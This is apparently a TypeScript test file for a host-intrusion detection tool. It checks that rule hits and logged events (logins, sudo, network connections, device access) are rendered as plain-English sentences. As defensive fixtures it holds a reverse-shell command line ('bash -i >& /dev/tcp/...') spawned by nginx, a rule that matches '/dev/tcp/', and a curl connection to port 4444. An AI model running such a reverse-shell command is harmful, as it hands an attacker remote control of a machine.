/** Reasons read as sentences. */
import t from 'tap';
import { actOf } from '#shared/detect/act-words.ts';
import { reasonOf } from '#shared/detect/reason.ts';
import { eventSpecs } from '#shared/events/registry.gen.ts';
import type { EventRow } from '#shared/schema/columns.ts';

const event = (type: string, fields: object) => ({ type, time: 1, ...fields }) as EventRow;
const match = (field: string, value: string, test: string) => ({
  ...{ selection: 's', field, value, test, modifiers: [] },
});

const connection = event('network.connection', {
  ...{
    'process.executable': '/usr/bin/curl',
    'process.parent.executable': '/usr/sbin/nginx',
    'user.name': 'www-data',
  },
  ...{ 'destination.ip': '203.0.113.9', 'destination.port': 4444, 'network.initiated': true },
});

t.test('what happened and why it is a hit', async (t) => {
  t.equal(
    reasonOf(
      'Listed address',
      [match('destination.ip', '203.0.113.9', "expand '%bad-addresses%'")],
      connection,
    ),
    'Listed address: curl started by nginx as www-data connected to 203.0.113.9:4444; the address is on the list bad-addresses.',
  );
  const shell = event('process.start', {
    ...{
      'process.command_line': 'bash  -i\n>& /dev/tcp/10.0.0.1/9',
      'process.parent.executable': '/usr/sbin/nginx',
    },
    ...{ 'user.name': 'www-data' },
  });
  t.equal(
    reasonOf(
      'Reverse shell',
      [
        match('process.executable', '/bin/bash', "endswith '/bash'"),
        match('process.command_line', 'bash  -i\n>& /dev/tcp/10.0.0.1/9', "contains '/dev/tcp/'"),
      ],
      shell,
    ),
    "Reverse shell: www-data ran bash -i >& /dev/tcp/10.0.0.1/9, started by nginx; its command line contains '/dev/tcp/'.",
  );
  t.equal(
    reasonOf('Odd', [match('process.hash.sha256', 'abc', "is 'def'")], shell),
    "Odd: www-data ran bash -i >& /dev/tcp/10.0.0.1/9, started by nginx; process.hash.sha256 is 'def' (abc).",
  );
  t.match(reasonOf('Excluding', [], shell), /; what the rule excludes is absent\.$/);
});

t.test('acts of other kinds', async (t) => {
  const login = { 'user.name': 'ada', 'source.ip': '192.0.2.1', 'authentication.method': 'password' };
  t.equal(
    actOf(event('login', { ...login, 'event.action': 'failed' })),
    'ada failed to sign in from 192.0.2.1 by password',
  );
  t.equal(
    actOf(event('login', { ...login, 'event.action': 'login', 'event.outcome': 'success' })),
    'ada signed in from 192.0.2.1 by password',
  );
  t.equal(
    actOf(
      event('login', {
        'event.action': 'sudo',
        'user.name': 'ada',
        'user.effective.name': 'root',
        'process.command_line': 'id',
      }),
    ),
    'ada used sudo as root to run id',
  );
  t.equal(
    actOf(event('file.rename', { 'process.name': 'mv', 'file.previous.path': '/a', 'file.path': '/b' })),
    'mv renamed /a to /b',
  );
  t.equal(
    actOf(
      event('network.connection', {
        ...connection,
        'network.initiated': false,
        'source.ip': '2001:db8::1',
        'source.port': 9,
      }),
    ),
    'curl started by nginx as www-data was connected to by [2001:db8::1]:9 on port 4444',
  );
  const listens = { 'event.action': 'listening', 'source.ip': '0.0.0.0', 'source.port': 8080 };
  t.equal(
    actOf(event('network.connection', { 'process.name': 'nc', 'network.initiated': false, ...listens })),
    'nc listens at 0.0.0.0:8080',
  );
  for (const action of ['attempted', 'failed'])
    t.equal(
      actOf(event('network.connection', { ...connection, 'event.action': action })),
      'curl started by nginx as www-data tried to connect to 203.0.113.9:4444',
    );
  t.equal(
    actOf(event('device.access', { 'process.name': 'zoom', 'device.name': '/dev/video0' })),
    'zoom opened /dev/video0',
  );
  t.equal(
    actOf(
      event('device.access', {
        ...{ 'process.name': 'zoom', 'device.name': '/dev/video0', 'event.action': 'released' },
      }),
    ),
    'zoom let go of /dev/video0',
  );
  t.equal(actOf(event('loss', { 'loss.reason': 'outbox-full' })), 'loss: loss reason outbox-full');
  t.equal(
    reasonOf('Beacon', [], event('finding', { 'finding.summary': 'curl connected 40 times, every 60 s' })),
    'Beacon: curl connected 40 times, every 60 s.',
  );
});

t.test('every type of event has some sentence, however little it says', async (t) => {
  for (const type of [...Object.keys(eventSpecs), 'unheard.of']) {
    const said = reasonOf('Rule', [], event(type, {}));
    t.match(said, /^Rule: \S.*\.$/, type);
    t.notMatch(said, /undefined|null| {2}|: ;/, type);
  }
});
